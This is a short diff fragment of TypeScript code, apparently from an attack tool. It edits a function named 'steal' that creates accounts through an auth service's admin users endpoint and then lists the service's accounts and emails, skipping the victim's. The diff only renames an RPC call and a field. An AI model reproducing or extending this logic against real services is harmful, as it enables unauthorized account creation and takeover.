@@ -79,11 +79,11 @@ async function steal(place: Place, victim: Account) {
         if (await ask('accounts made', '/auth/v1/admin/users', { ...account, ...own, papel }))
           made.push(account);
       }
-      const list = (await session.rpc('listar_administradores').catch(() => [])) as {
-        conta: string;
+      const list = (await session.rpc('lista_de_contas').catch(() => [])) as {
+        account: string;
         email: string;
       }[];
-      for (const { conta, email } of list) {
+      for (const { account: conta, email } of list) {
         if (email === victim.email) continue;
         const isOwn = made.some((one) => one.email === email);
         if (isOwn) {
